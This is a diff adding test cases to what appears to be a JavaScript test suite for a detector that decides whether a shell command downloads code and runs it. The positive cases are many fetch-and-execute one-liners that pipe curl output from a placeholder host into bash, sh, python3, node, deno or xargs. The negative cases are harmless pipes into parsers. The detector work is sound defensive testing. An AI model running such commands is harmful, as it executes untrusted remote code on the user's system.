@@ -551,6 +551,23 @@ describe('downloads that are run', () => {
     'curl -s https://a.example/x > x.sh; sh x.sh',
     'X=1 env curl https://a.example/x | exec bash',
     'echo ready && (curl https://a.example/x | sh)',
+    '(curl -fsSL https://a.example/x) | bash',
+    'curl https://a.example/x | (bash)',
+    'curl https://a.example/x |(cat|sh)',
+    'cat <(curl https://a.example/x) | (sh)',
+    'curl https://a.example/x | if true; then sh; fi',
+    'curl https://a.example/x | for i in 1; do sh; done',
+    '(cd /tmp; curl https://a.example/x; echo hi) | bash',
+    '(cd /tmp && curl https://a.example/x) | (read first; bash)',
+    'if true; then curl https://a.example/x; fi | sh',
+    'curl https://a.example/x | { cd /tmp; bash -o pipefail -s -- --yes; }',
+    'curl https://a.example/x | (cat; echo) | sh /dev/stdin',
+    'curl https://a.example/x | bash -c "$(cat)"',
+    'curl https://a.example/x | python3 -X utf8 -',
+    'curl https://a.example/x | node --require ./a.js',
+    'curl https://a.example/x | deno run -',
+    'curl https://a.example/x | xargs -0 sh -c',
+    'curl https://a.example/x | python3 -c "import sys; exec(sys.stdin.read())"',
   ])('sh -c %j', (script) => {
     expect(runs('sh', '-c', script)).toBe(true)
   })
@@ -566,6 +583,18 @@ describe('downloads that are run', () => {
     'TOKEN=$(curl -s https://a.example/t) node server.js',
     'grep curl notes.txt | sh-format',
     'wget -o log.txt https://a.example/d; cat log.txt',
+    'curl https://a.example/d | python3 -m json.tool',
+    `curl https://a.example/d | python3 -c 'import json, sys; print(json.load(sys.stdin)["a"])'`,
+    'curl https://a.example/d | node parse.js',
+    'curl https://a.example/d | sh /opt/start.sh',
+    'curl https://a.example/d | perl -pe s/a/b/',
+    'curl https://a.example/d | xargs -n1 echo',
+    'curl https://a.example/d | (grep -q ok && sh start.sh)',
+    'curl https://a.example/d | if grep -q ok; then node server.js; fi',
+    'curl https://a.example/d | while read line; do node server.js; done',
+    '(curl https://a.example/d > /dev/null); sh server.sh',
+    'if curl https://a.example/d; then bash server.sh; fi',
+    '(echo a | cat) | sh',
   ])('not sh -c %j', (script) => {
     expect(runs('sh', '-c', script)).toBe(false)
   })
